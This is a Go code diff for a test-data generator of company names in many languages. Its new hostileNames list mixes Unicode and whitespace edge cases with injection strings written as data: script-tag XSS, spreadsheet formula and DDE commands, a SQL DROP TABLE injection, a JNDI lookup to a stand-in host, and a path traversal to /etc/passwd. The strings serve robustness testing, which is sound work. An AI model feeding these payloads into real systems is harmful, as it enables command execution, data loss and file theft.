@@ -6,7 +6,7 @@ import (
 	"unicode"
 )
 
-// region is a language's way of naming a firm.
+// region holds the parts of company names in one language.
 type region struct {
 	weight   int
 	families []string
@@ -16,8 +16,8 @@ type region struct {
 	patterns []string // F family, G another family, T trade, P town, L legal form
 }
 
-// regions are the sources of ordinary names. The words are common ones; firms
-// of such names may exist, none is meant.
+// regions returns the sources of ordinary names. The words are common; firms of
+// such names may exist, none is meant.
 func regions() []region {
 	return append([]region{english(), german(), french(), nordic(), iberian(), eastern()}, scripts()...)
 }
@@ -119,8 +119,8 @@ func eastern() region {
 	}
 }
 
-// name makes a name of r. In a pattern, words without small letters stand for
-// parts, letter by letter; "LLP" does not.
+// name returns a random name. In a pattern each capital stands for a part, except
+// in words with lower-case letters and in "LLP".
 func (r region) name(dice *rand.Rand) string {
 	var b []byte
 	for i, word := range strings.Fields(pick(dice, r.patterns)) {
@@ -138,7 +138,7 @@ func (r region) name(dice *rand.Rand) string {
 	return string(b)
 }
 
-// part replaces a letter that stands for a part.
+// part returns a random part for a letter of a pattern.
 func (r region) part(dice *rand.Rand, c rune) string {
 	switch c {
 	case 'F', 'G':
@@ -157,11 +157,91 @@ func pick[T any](dice *rand.Rand, from []T) T { return from[dice.IntN(len(from))
 
 func words(s string) []string { return strings.Fields(s) }
 
-// phrases splits at bars; blanks and line ends around them do not count.
+// phrases splits at bars and trims blanks and line ends.
 func phrases(s string) []string {
 	list := strings.Split(s, "|")
 	for i := range list {
 		list[i] = strings.TrimSpace(list[i])
 	}
 	return list
+}
+
+// scripts returns the regions that do not write Latin letters, each with names in
+// one script.
+func scripts() []region {
+	return []region{
+		{
+			weight:   2,
+			families: words(`田中 佐藤 山本 鈴木 髙橋 渡邊 伊藤 小林 加藤 吉田`),
+			trades:   words(`商事 建設 製作所 運輸 電機 印刷 食品 不動産`),
+			towns:    words(`大阪 横浜 札幌 福岡 名古屋 京都`),
+			forms:    words(`株式会社 有限会社 合同会社 ㈱`),
+			patterns: phrases(`PFTL|LFT P支店|LPFT`),
+		},
+		{
+			weight:   1,
+			families: words(`东方 华信 金龙 长城 明德 瑞丰`),
+			trades:   words(`科技 物流 贸易 建筑 电子 文化传媒`),
+			towns:    words(`北京 上海 深圳 杭州 成都`),
+			forms:    words(`有限公司 股份有限公司`),
+			patterns: phrases(`PFTL|FT(P)L`),
+		},
+		{
+			weight:   1,
+			families: words(`Παπαδόπουλος Νικολάου Γεωργίου Ιωάννου Δημητρίου`),
+			trades:   words(`Μεταφορές Κατασκευές Τρόφιμα Ξενοδοχεία Φαρμακείο`),
+			towns:    words(`Αθήνα Πάτρα Ηράκλειο Βόλος`),
+			forms:    words(`Α.Ε. Ο.Ε. Ε.Π.Ε. Μ.Ι.Κ.Ε.`),
+			patterns: phrases(`F T P L|F & G T L`),
+		},
+		{
+			weight:   1,
+			families: words(`Іваненко Ковальчук Шевчук Соколов Йорданов Ђорђевић`),
+			trades:   words(`Строй Логистика Будсервіс Транс Аптека`),
+			towns:    words(`Київ Львів София Пловдив Београд`),
+			forms:    words(`ООО ТОВ ЕООД д.о.о.`),
+			patterns: phrases(`L «F T P»|F & G T L`),
+		},
+		{
+			weight:   1,
+			families: words(`الأمير النور الفجر الخليج القدس`),
+			trades:   words(`للتجارة للمقاولات للنقل للاستشارات`),
+			towns:    words(`دبي عمان بيروت القاهرة`),
+			forms:    words(`ش.م.م ذ.م.م`),
+			patterns: phrases(`شركة F T P L|مؤسسة F T (P)`),
+		},
+	}
+}
+
+// hostileNames returns names that break careless programs. Every seed with room
+// for them contains all. A person could have typed, pasted or imported each of
+// them.
+func hostileNames() []string {
+	long := "The Worshipful Amalgamated Society of " + strings.Repeat("Carpenters, Joiners, Turners and ", 7) + "Allied Trades of Great Britain & Ireland Ltd"
+	return []string{
+		// Composed and decomposed letters: they look the same.
+		"Caf\u00e9 Ren\u00e9e Ltd", "Cafe\u0301 Rene\u0301e Ltd",
+		"Å Å ngström Instruments AB", "A\u030a \u212b ngstro\u0308m Instruments AB",
+		// The same name twice, and names that differ in case only.
+		"Northgate Dental Practice", "Northgate Dental Practice",
+		"Smith & Co", "SMITH & CO", "Smith & Co.",
+		"İstanbul Lojistik A.Ş.", "istanbul lojistik a.ş.",
+		"Straße & Weg GmbH", "STRASSE & WEG GMBH",
+		// Blanks and invisible characters.
+		"  Leading Blanks Ltd", "Trailing Blanks Ltd  ", "Two  Blanks  Ltd", "Tab\tIn The Middle Ltd",
+		"No\u00a0Break Ltd", "Zero\u200bWidth Ltd", "\ufeffByte Order Mark Ltd", "Line\nBreak Ltd",
+		// Quotes, backslashes, markup, formulas, SQL, templates, paths.
+		`"Quoted" Ltd`, `O'Brien & O'Neill "Builders" Ltd`, `Back\slash Ltd`, `C:\Temp & Sons`,
+		"<b>Bold</b> Marketing Ltd", "<script>alert(1)</script> Web Design", "R&amp;D Services Ltd", "P&L <Finance> Ltd",
+		`=cmd|'/c calc'!A1`, "=1+1 Consulting", "+44 Telecoms Ltd", "-Minus Zero Ltd", "@Home Care Ltd", "=HYPERLINK(\"http://example.invalid\",\"Invoices\")",
+		"Robert'); DROP TABLE clients;--", "100% Cotton_Mill Ltd", "{{.Name}} Ltd", "${jndi:ldap://example.invalid/a}", "../../etc/passwd Ltd", "A, B; C Ltd",
+		// Words that programs give a meaning.
+		"null", "NULL Ltd", "None", "true", "0", "42", "1e3 Ltd", "12.0", "NaN Bakery", "undefined",
+		// Scripts, directions, emoji of several code points, letters outside the first plane.
+		"東京ソフトウェア株式会社", "上海东方贸易有限公司", "شركة النور للتجارة ش.م.م", `חברת החשמל בע"מ`, "ООО «Ромашка»", "ไทยเทคโนโลยี จำกัด", "हिन्दी सेवा प्रा. लि.",
+		"\u202eevil\u202c Ltd", "🍕 Pizza Palace 🍕", "👩\u200d👩\u200d👧\u200d👦 Family Law", "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f Scottish Salmon", "𝒮𝒸𝓇𝒾𝓅𝓉 Ltd", "𠮷野家ホールディングス",
+		"Zalgo Z\u0335\u0321a\u0334\u0322l\u0336g\u0335o\u0337 Ltd",
+		// Length.
+		long, strings.Repeat("界", 255), "X", "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch Parish Council",
+	}
 }
